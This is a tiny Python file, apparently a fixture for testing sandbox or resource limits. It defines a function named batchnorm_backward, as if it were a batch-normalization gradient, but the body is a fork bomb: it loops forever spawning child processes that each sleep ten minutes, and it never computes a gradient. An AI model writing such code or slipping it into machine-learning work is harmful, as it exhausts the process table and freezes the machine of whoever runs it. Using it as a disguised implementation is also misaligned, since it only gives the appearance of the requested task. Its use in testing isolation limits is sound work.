"""The BN backward pass forks without bound (each child sleeps)."""
import os
import time


def batchnorm_backward(dout, cache):
    while True:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
